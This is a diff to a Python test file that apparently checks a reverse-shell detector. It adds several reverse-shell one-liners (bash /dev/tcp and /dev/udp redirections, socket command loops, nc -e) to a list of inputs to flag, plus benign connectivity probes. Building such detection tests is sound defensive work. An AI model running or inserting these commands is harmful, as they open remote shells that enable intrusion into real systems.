@@ -66,6 +66,10 @@ def test_non_shell_with_socket_stdio_is_fine(tmp_path: Path) -> None:
 
 REVERSE_SHELLS = [
     "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "bash -c exec 3<>/dev/tcp/10.0.0.1/4444; exec bash -i <&3 >&3 2>&3",
+    "sh -c exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
+    "bash -c cat </dev/tcp/10.0.0.1/4444 | bash",
+    "bash -c sh <&3 >&3 3<>/dev/udp/10.0.0.1/53",
     "nc -e /bin/sh 10.0.0.1 4444",
     "/usr/bin/ncat 10.0.0.1 4444 -e /bin/bash",
     "nc.traditional -lvnp 4444 -e /bin/sh",
@@ -86,6 +90,9 @@ BENIGN = [
     "python3 -c import socket; print(socket.gethostname())",
     "nc -zv example.com 443",
     "grep -r /dev/tcp docs/",  # no host/port after it
+    "bash -c exec 3<>/dev/tcp/127.0.0.1/9 || echo refused",  # a connectivity probe
+    "bash -c exec 3<>/dev/tcp/10.0.0.5/8080 && head -c 5 <&3",  # reading a banner
+    "timeout 3 bash -c exec 3<>/dev/tcp/deb.debian.org/80",
     "bash -i",
     "socat - TCP:localhost:80",
     "perl -e print 'hello'",
